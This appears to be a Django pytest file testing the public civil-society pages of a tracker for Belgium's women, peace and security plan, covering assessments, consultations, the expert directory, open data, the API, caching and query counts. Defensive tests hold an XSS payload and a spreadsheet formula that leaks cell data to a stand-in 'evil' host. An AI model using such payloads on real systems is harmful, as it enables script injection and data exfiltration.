"""Civil society on the public side, on the real Belgian plan: published assessments beside the
government's contributions and apart from them, the expertise network's directory (consent
withdrawn: gone at once), consultation events and recommendations with their follow-up, open data,
the public API, the page cache following civil society's public actions, and what each new page,
file and endpoint costs in SQL queries, whatever the number of rows."""

from __future__ import annotations

import csv
import io
import json

import pytest
import yaml
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from naptrack.audit.models import AuditEvent
from naptrack.civilsociety import services
from naptrack.civilsociety.models import Assessment
from naptrack.portal.caching import pages, public_actions

from .civil_society_data import member, organisations
from .civil_society_public_data import PDF, assess, event, listing, recommend
from .conftest import BE, logged_in
from .portal_data import FA_2014, annual_2014, publish

pytestmark = pytest.mark.django_db
PLAN = f"/plans/{BE}"
NGO_TEXT = "Training of **judges** reached few courts in Bukavu."
KIVU_TEXT = "Women diplomats remain few in Kinshasa."


@pytest.fixture
def orgs(plan, coordinator):
    return organisations(coordinator)


@pytest.fixture
def ngo_member(orgs, coordinator):
    return member(coordinator, orgs[0], "an@vrouwenvoorvrede.example")


@pytest.fixture
def kivu_member(orgs, coordinator):
    return member(coordinator, orgs[1], "marie@kivu.example")


@pytest.fixture
def round_2014(plan, coordinator, focal_defence, focal_justice, monkeypatch, settings, tmp_path):
    """The 2014 annual round, open, with the departments' approved contributions (line 21 by
    Foreign Affairs among them); published by the tests that need it."""
    settings.MEDIA_ROOT = tmp_path
    return annual_2014(plan, coordinator, focal_defence, focal_justice, monkeypatch, publish_it=False)


@pytest.fixture
def published(round_2014, coordinator, ngo_member, kivu_member, monkeypatch):
    """On line 21, the NGO's assessment accepted (for its Kivu partner, with a link and a file),
    the Kivu organisation's submitted, returned and rejected ones; the round published."""
    accepted = assess(
        ngo_member,
        round_2014,
        "21",
        NGO_TEXT,
        coordinator=coordinator,
        countries=["CD"],
        partner_name="Femmes Solidaires du Kivu",
        partner_country="CD",
        evidence={"Court survey": "https://example.org/survey", "Field notes": PDF},
    )
    for state in ("submitted", "returned", "rejected"):
        assess(kivu_member, round_2014, "21", f"Kivu {state} text.", then=state, coordinator=coordinator)
    publish(round_2014, coordinator, monkeypatch)
    return accepted


def page(client, url: str, status: int = 200) -> str:
    response = client.get(url)
    assert response.status_code == status, url
    return response.content.decode()


# --- the line's page ----------------------------------------------------------------------------


def test_line_page_shows_the_assessment_beside_the_contribution_and_apart_from_it(published, anonymous):
    html = page(anonymous, f"{PLAN}/lines/21/")
    departments = html.index("What the departments reported")
    civil = html.index("What civil society assessed")
    assert departments < html.index(FA_2014) < civil, "the departments' report in their own section"
    article = html[html.index(f'id="assessment-{published.pk}"') :]
    article = article[: article.index("</article>")]
    assert "Civil society assessment: Vrouwen voor Vrede, Belgium" in article
    assert "assessment civil-society" in html and "Not a report of the government" in article
    assert "Reported for Femmes Solidaires du Kivu (Democratic Republic of the Congo)" in article
    assert "Status:</span> In progress" in article
    assert "Training of <strong>judges</strong> reached few courts in Bukavu." in article
    assert "Published " in article and "Democratic Republic of the Congo" in article
    assert 'href="https://example.org/survey"' in article
    evidence = published.evidence.get(title="Field notes")
    assert f'href="/assessments/evidence/{evidence.pk}/"' in article
    assert FA_2014 not in article
    for state in ("submitted", "returned", "rejected"):
        assert f"Kivu {state} text." not in html


def test_markdown_of_an_assessment_is_rendered_safely(round_2014, coordinator, ngo_member, anonymous):
    text = 'Look <script>alert(1)</script> [x](javascript:alert(2)) "<b>'
    assess(ngo_member, round_2014, "21", text, coordinator=coordinator)
    html = page(anonymous, f"{PLAN}/lines/21/")
    assert "<script>alert(1)" not in html and "javascript:alert" not in html


def test_objective_page_shows_assessments_of_the_objective(round_2014, coordinator, ngo_member, anonymous):
    assess(ngo_member, round_2014, "", "The objective as a whole lags.", objective=4, coordinator=coordinator)
    html = page(anonymous, f"{PLAN}/objectives/4/")
    assert "Civil society assessment: Vrouwen voor Vrede, Belgium" in html
    assert "The objective as a whole lags." in html
    assert "What civil society assessed" not in page(anonymous, f"{PLAN}/objectives/3/")


def test_evidence_files_are_served_only_once_the_assessment_is_accepted(round_2014, coordinator, ngo_member, anonymous):
    draft = assess(ngo_member, round_2014, "21", "Pending.", then="submitted", evidence={"Notes": PDF})
    file = draft.evidence.get()
    assert anonymous.get(f"/assessments/evidence/{file.pk}/").status_code == 404
    assert logged_in(ngo_member).get(f"/assessments/evidence/{file.pk}/").status_code == 404
    services.assessment_moderate(actor=coordinator, assessment=draft, decision="accept")
    response = anonymous.get(f"/assessments/evidence/{file.pk}/")
    assert response.status_code == 200 and b"".join(response.streaming_content) == PDF
    assert response["Content-Disposition"].startswith("attachment")


# --- events and recommendations -------------------------------------------------------------------


@pytest.fixture
def consultation(plan, coordinator, orgs, round_2014):
    ngo, kivu = orgs
    mid_term = event(coordinator, plan, "Mid-term consultation on NAP 1325", attending=[ngo, kivu], minutes=PDF)
    recommend(
        coordinator,
        mid_term,
        "Train all judges on sexual violence.",
        ["17.a", "21"],
        organisations=[ngo],
        response="accepted",
        follow_up="Two trainings planned in 2015.",
        round_=round_2014,
    )
    recommend(
        coordinator,
        mid_term,
        "Fund Kivu shelters.",
        ["17.a"],
        organisations=[kivu],
        response="partly",
        reason="Shelters are funded through multilateral channels.",
    )
    recommend(coordinator, mid_term, "Count women in missions.", ["23.a"])
    hidden = event(coordinator, plan, "Closed preparatory meeting", public=False, minutes=PDF)
    recommend(coordinator, hidden, "Secret preparatory remark.", ["21"])
    return mid_term, hidden


def test_event_list_and_page_show_the_record_and_its_recommendations(consultation, anonymous):
    mid_term, hidden = consultation
    listed = page(anonymous, "/consultations/")
    assert "Mid-term consultation on NAP 1325" in listed and "Closed preparatory meeting" not in listed
    assert "Egmont Palace, Brussels" in listed and "Femmes Solidaires du Kivu, Vrouwen voor Vrede" in listed
    html = page(anonymous, f"/consultations/{mid_term.pk}/")
    assert "Mid-term consultation" in html and "41 in all; 31 women; 9 men; 1 other or not recorded" in html
    assert "Foreign Affairs" in html
    minutes = mid_term.files.get()
    assert f'href="/consultations/files/{minutes.pk}/"' in html
    assert f'href="{PLAN}/lines/17.a/"' in html and f'href="{PLAN}/lines/23.a/"' in html
    assert "Shelters are funded through multilateral channels." in html and "Partly accepted" in html
    assert "Two trainings planned in 2015." in html and "In progress" in html
    assert "Awaiting a response" in html
    response = anonymous.get(f"/consultations/files/{minutes.pk}/")
    assert response.status_code == 200 and b"".join(response.streaming_content) == PDF
    # What is not public is a 404, for everyone.
    assert anonymous.get(f"/consultations/{hidden.pk}/").status_code == 404
    assert anonymous.get(f"/consultations/files/{hidden.files.get().pk}/").status_code == 404


def test_recommendations_list_filters_by_status_and_line(consultation, anonymous):
    html = page(anonymous, "/recommendations/")
    assert "3 recommendations" in html and "Secret preparatory remark." not in html
    html = page(anonymous, "/recommendations/?status=in-progress")
    assert "1 recommendation" in html and "Train all judges" in html and "Fund Kivu" not in html
    html = page(anonymous, "/recommendations/?line=17.a")
    assert "2 recommendations" in html and "Count women" not in html
    assert "0 recommendations" in page(anonymous, "/recommendations/?line=99.z")


def test_line_page_links_the_recommendations_on_it_and_their_events(consultation, anonymous):
    mid_term, _hidden = consultation
    html = page(anonymous, f"{PLAN}/lines/17.a/")
    assert "Recommendations from consultations with civil society" in html
    assert "Train all judges on sexual violence." in html and "Fund Kivu shelters." in html
    assert f'href="/consultations/{mid_term.pk}/"' in html
    assert 'href="/recommendations/?line=17.a"' in html
    assert "Secret preparatory remark." not in page(anonymous, f"{PLAN}/lines/21/")


def test_the_navigation_links_the_consultations_and_the_network(plan, anonymous):
    html = page(anonymous, "/")
    assert 'href="/consultations/"' in html and 'href="/network/"' in html


# --- the expertise network ----------------------------------------------------------------------


@pytest.fixture
def network(plan, coordinator, orgs):
    ssr = services.expertise_field_add(actor=coordinator, name="Gender and security sector reform")
    justice = services.expertise_field_add(actor=coordinator, name="Transitional justice")
    people = [
        listing(
            coordinator,
            "An Peeters",
            email="an.peeters@example.org",
            fields=[ssr],
            languages=["nl", "fr"],
            countries=["CD", "BE"],
            organisation=orgs[0],
        ),
        listing(
            coordinator,
            "Marie Kabila",
            email="marie.kabila@example.org",
            fields=[justice],
            languages=["fr"],
            countries=["CD"],
        ),
        listing(coordinator, "Unlisted Person", email="unlisted@example.org", consent=False, languages=["en"]),
    ]
    return ssr, justice, people


def test_directory_lists_only_consenting_entries_without_their_email(network, anonymous):
    html = page(anonymous, "/network/")
    assert "An Peeters" in html and "Marie Kabila" in html and "Unlisted Person" not in html
    assert "@example.org" not in html
    assert "2 listings" in html and "Gender and security sector reform" in html


def test_directory_searches_by_name_field_country_and_language(network, anonymous):
    _ssr, justice, _people = network
    assert "Marie Kabila" not in page(anonymous, "/network/?q=peeters")
    assert "An Peeters" in page(anonymous, "/network/?q=vrouwen"), "by the organisation's name too"
    html = page(anonymous, f"/network/?field={justice.pk}")
    assert "Marie Kabila" in html and "An Peeters" not in html
    html = page(anonymous, "/network/?country=be")
    assert "An Peeters" in html and "Marie Kabila" not in html
    html = page(anonymous, "/network/?language=nl")
    assert "An Peeters" in html and "Marie Kabila" not in html
    assert "No listing matches." in page(anonymous, "/network/?country=zz&field=x&language=<b>")


def test_directory_is_paginated(plan, coordinator, anonymous):
    for n in range(30):
        listing(coordinator, f"Expert {n:02d}")
    first, second = page(anonymous, "/network/"), page(anonymous, "/network/?page=2")
    assert "Expert 00" in first and "Expert 25" not in first and "Page 1 of 2" in first
    assert "Expert 25" in second and "Expert 00" not in second


def test_withdrawing_consent_removes_the_listing_at_once(network, anonymous, settings, coordinator):
    # Even where public pages would be kept a minute by every server, the directory follows at once.
    settings.NAPTRACK_PUBLIC_STAMP_SECONDS = 60
    _ssr, _justice, (an, _marie, _unlisted) = network
    first = anonymous.get("/network/")
    assert "An Peeters" in first.content.decode()
    assert "no-store" in first["Cache-Control"] and "ETag" not in first
    services.expert_consent_withdraw(actor=coordinator, expert=an)
    assert "An Peeters" not in page(anonymous, "/network/")
    assert "An Peeters" not in page(anonymous, "/network/?q=an")


# --- open data ------------------------------------------------------------------------------------


def test_open_data_has_the_published_assessments_only(published, anonymous, coordinator, round_2014):
    rows = list(csv.DictReader(io.StringIO(page(anonymous, "/open-data/assessments.csv"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["action_code"] == "21" and row["organisation"] == "Vrouwen voor Vrede"
    assert row["organisation_country"] == "BE" and row["status"] == "in-progress"
    assert row["narrative"] == NGO_TEXT and row["countries"] == "CD"
    assert row["partner_name"] == "Femmes Solidaires du Kivu" and row["partner_country"] == "CD"
    assert row["plan"] == BE and row["round_year"] == "2014" and row["published_on"]
    document = json.loads(page(anonymous, "/open-data/assessments.json"))
    assert document["rows"][0]["narrative"] == NGO_TEXT and document["format"] == "naptrack-assessments/1"
    sheet = load_workbook(io.BytesIO(anonymous.get("/open-data/assessments.xlsx").content)).active
    assert [c.value for c in sheet[1]][:3] == ["assessment_id", "plan", "round_id"]
    assert sheet.max_row == 2


def test_open_data_neutralises_formulas_in_peoples_text(round_2014, coordinator, ngo_member, anonymous):
    assess(ngo_member, round_2014, "21", '=HYPERLINK("http://evil/?"&A1)', coordinator=coordinator)
    row = next(csv.DictReader(io.StringIO(page(anonymous, "/open-data/assessments.csv"))))
    assert row["narrative"].startswith("'=HYPERLINK")
    sheet = load_workbook(io.BytesIO(anonymous.get("/open-data/assessments.xlsx").content)).active
    cell = sheet.cell(row=2, column=13)
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")


def test_open_data_has_the_recommendations_of_public_events(consultation, anonymous):
    rows = list(csv.DictReader(io.StringIO(page(anonymous, "/open-data/recommendations.csv"))))
    assert [r["text"] for r in rows] == [
        "Train all judges on sexual violence.",
        "Fund Kivu shelters.",
        "Count women in missions.",
    ]
    first, second, _third = rows
    assert first["lines"] == "17.a;21" and first["response"] == "accepted" and first["status"] == "in-progress"
    assert first["latest_follow_up"] == "Two trainings planned in 2015." and first["latest_follow_up_round"]
    assert first["event_kind"] == "mid-term" and first["event_date"] == "2014-11-20"
    assert first["organisations"] == "Vrouwen voor Vrede"
    assert second["reason"] == "Shelters are funded through multilateral channels."
    document = json.loads(page(anonymous, "/open-data/recommendations.json"))
    assert len(document["rows"]) == 3
    assert load_workbook(io.BytesIO(anonymous.get("/open-data/recommendations.xlsx").content)).active.max_row == 4


def test_open_data_page_and_dictionary_name_the_new_files(plan, anonymous):
    html = page(anonymous, "/open-data/")
    for name in ("assessments", "recommendations"):
        for fmt in ("csv", "xlsx", "json"):
            assert f'href="/open-data/{name}.{fmt}"' in html
    dictionary = page(anonymous, "/open-data/dictionary/")
    assert "<code>partner_name</code>" in dictionary and "<code>latest_follow_up</code>" in dictionary
    assert anonymous.get("/open-data/assessments.pdf").status_code == 404


# --- the public API -------------------------------------------------------------------------------


def test_public_api_serves_published_assessments_and_public_events(published, consultation, anonymous):
    mid_term, hidden = consultation
    body = anonymous.get("/api/v1/public/assessments/").json()
    assert body["count"] == 1
    item = body["results"][0]
    assert item["action"] == "21" and item["objective"] is None
    assert item["organisation"] == {"name": "Vrouwen voor Vrede", "country": "BE"}
    assert item["narrative"] == NGO_TEXT and item["partner_name"] == "Femmes Solidaires du Kivu"
    assert {e["title"] for e in item["evidence"]} == {"Court survey", "Field notes"}
    assert "moderation_note" not in item and "moderated_by" not in item
    assert anonymous.get(f"/api/v1/public/assessments/{published.pk}/").json()["id"] == published.pk
    hidden_assessment = Assessment.objects.exclude(state="accepted").first()
    assert anonymous.get(f"/api/v1/public/assessments/{hidden_assessment.pk}/").status_code == 404
    assert anonymous.get("/api/v1/public/assessments/?action=17.a").json()["count"] == 0

    events = anonymous.get("/api/v1/public/events/").json()
    assert [e["title"] for e in events["results"]] == ["Mid-term consultation on NAP 1325"]
    detail = anonymous.get(f"/api/v1/public/events/{mid_term.pk}/").json()
    first = detail["recommendations"][0]
    assert first["actions"] == ["17.a", "21"] and first["response"] == "accepted"
    assert first["follow_ups"][0]["note"] == "Two trainings planned in 2015."
    assert detail["women"] == 31 and detail["files"][0]["kind"] == "minutes"
    assert anonymous.get(f"/api/v1/public/events/{hidden.pk}/").status_code == 404


def test_public_api_is_documented_as_open(plan, anonymous):
    paths = yaml.safe_load(anonymous.get("/api/v1/schema/").content)["paths"]
    for path in (
        "/api/v1/public/assessments/",
        "/api/v1/public/assessments/{id}/",
        "/api/v1/public/events/",
        "/api/v1/public/events/{id}/",
    ):
        assert {} in paths[path]["get"]["security"], path
        assert "404" in paths[path]["get"]["responses"]


# --- the page cache -------------------------------------------------------------------------------


def test_civil_society_publishing_actions_are_public_actions():
    names = set(public_actions())
    for action in (
        "civilsociety.assessment.accepted",
        "civilsociety.event.updated",
        "civilsociety.event.file_added",
        "civilsociety.recommendation.followed_up",
        "civilsociety.expert.consent_withdrawn",
        "civilsociety.person.erased",
    ):
        assert action in names
    for action in (
        "civilsociety.assessment.saved",
        "civilsociety.assessment.submitted",
        "civilsociety.assessment.returned",
        "civilsociety.assessment.rejected",
    ):
        assert action not in names


def test_accepting_an_assessment_changes_the_line_page(round_2014, coordinator, ngo_member, anonymous):
    before = anonymous.get(f"{PLAN}/lines/21/")
    pending = assess(ngo_member, round_2014, "21", "Accepted later.", then="submitted")
    # Work on an assessment not yet public leaves every public page as it was.
    assert anonymous.get(f"{PLAN}/lines/21/", HTTP_IF_NONE_MATCH=before["ETag"]).status_code == 304
    services.assessment_moderate(actor=coordinator, assessment=pending, decision="accept")
    after = anonymous.get(f"{PLAN}/lines/21/", HTTP_IF_NONE_MATCH=before["ETag"])
    assert after.status_code == 200 and "Accepted later." in after.content.decode()


def test_event_changes_show_at_once_on_public_pages(consultation, anonymous, coordinator):
    mid_term, _hidden = consultation
    assert "Count women in missions." in page(anonymous, f"/consultations/{mid_term.pk}/")
    r = mid_term.recommendations.get(text="Count women in missions.")
    services.recommendation_respond(
        actor=coordinator, recommendation=r, response="not-accepted", reason="Missions count their staff already."
    )
    assert "Missions count their staff already." in page(anonymous, f"/consultations/{mid_term.pk}/")
    services.recommendation_follow_up(actor=coordinator, recommendation=r, status="closed", note="Closed as is.")
    assert "Closed as is." in page(anonymous, "/recommendations/")
    services.event_update(actor=coordinator, event=mid_term, data={"public": False})
    assert anonymous.get(f"/consultations/{mid_term.pk}/").status_code == 404
    assert "Mid-term consultation" not in page(anonymous, "/consultations/")
    assert "Count women in missions." not in page(anonymous, f"{PLAN}/lines/23.a/")


# --- query counts ---------------------------------------------------------------------------------

# Rendered afresh (the per-process cache emptied). Each count of a cached page includes the one
# query of the public stamp; the directory is never cached and reads none.
PAGES = [
    ("/network/", 5),
    ("/network/?q=e&country=CD&language=fr&field=FIELD", 5),
    ("/consultations/", 3),
    ("/consultations/EVENT/", 9),
    ("/recommendations/", 6),
    ("/recommendations/?status=in-progress&line=17.a", 6),
    ("/consultations/files/FILE/", 2),
    ("/assessments/evidence/EVIDENCE/", 2),
    ("/open-data/assessments.csv", 2),
    ("/open-data/assessments.xlsx", 2),
    ("/open-data/assessments.json", 2),
    ("/open-data/recommendations.csv", 5),
    ("/open-data/recommendations.xlsx", 5),
    ("/open-data/recommendations.json", 5),
    ("/api/v1/public/assessments/", 3),
    ("/api/v1/public/assessments/ASSESSMENT/", 2),
    ("/api/v1/public/events/", 8),
    ("/api/v1/public/events/EVENT/", 7),
    # Lines with their published assessments (two queries) and recommendations (two), before
    # the round is published; tests/test_portal.py pins them with published rounds.
    # And each line's lineage (one query) and its changes by amendment (one). The line page reads
    # its published rounds once (none here) and their contributions only when there are some.
    (f"{PLAN}/lines/21/", 13),
    (f"{PLAN}/lines/17.a/", 12),
    (f"{PLAN}/objectives/4/", 9),  # and its figures (none published: one query)
]


def _more(plan, coordinator, round_2014, ngo_member, kivu_member, orgs, n: int) -> dict[str, int]:
    """n more of everything: listings, events with files and recommendations on 17.a and 21,
    assessments of line 21 and objective 4 with evidence."""
    ngo, kivu = orgs
    field = services.expertise_field_add(actor=coordinator, name=f"Field {n}")
    made = None
    for i in range(n):
        listing(coordinator, f"Expert {n}-{i}", fields=[field], languages=["fr"], countries=["CD"], organisation=ngo)
        made = event(coordinator, plan, f"Event {n}-{i}", attending=[ngo, kivu], minutes=PDF)
        recommend(
            coordinator,
            made,
            f"Recommendation {n}-{i}.",
            ["17.a", "21"],
            organisations=[ngo, kivu],
            response="partly",
            reason="In part.",
            follow_up="Under way.",
            round_=round_2014,
        )
        a = assess(
            ngo_member,
            round_2014,
            "21",
            f"Assessment {n}-{i}.",
            coordinator=coordinator,
            evidence={"Link": "https://example.org/", "File": PDF},
        )
        assess(
            kivu_member,
            round_2014,
            "",
            f"Objective {n}-{i}.",
            objective=4,
            coordinator=coordinator,
            evidence={"Link": "https://example.org/"},
        )
    return {
        "FIELD": field.pk,
        "EVENT": made.pk,
        "FILE": made.files.get().pk,
        "EVIDENCE": a.evidence.get(title="File").pk,
        "ASSESSMENT": a.pk,
    }


def _counts(client, ids: dict[str, int]) -> list[tuple[str, int]]:
    measured = []
    for url, _count in PAGES:
        for key, value in ids.items():
            url = url.replace(key, str(value))
        pages.clear()
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
            if response.streaming:
                b"".join(response.streaming_content)
        assert response.status_code == 200, url
        measured.append(len(captured))
    return [(url, n) for (url, _c), n in zip(PAGES, measured, strict=True)]


def test_query_counts_are_pinned_and_do_not_grow_with_more_rows(
    plan, coordinator, round_2014, ngo_member, kivu_member, orgs, anonymous
):
    ids = _more(plan, coordinator, round_2014, ngo_member, kivu_member, orgs, 1)
    first = _counts(anonymous, ids)
    ids = _more(plan, coordinator, round_2014, ngo_member, kivu_member, orgs, 6)
    second = _counts(anonymous, ids)
    assert first == PAGES
    assert second == PAGES
    assert AuditEvent.objects.filter(action="civilsociety.assessment.accepted").count() == 14
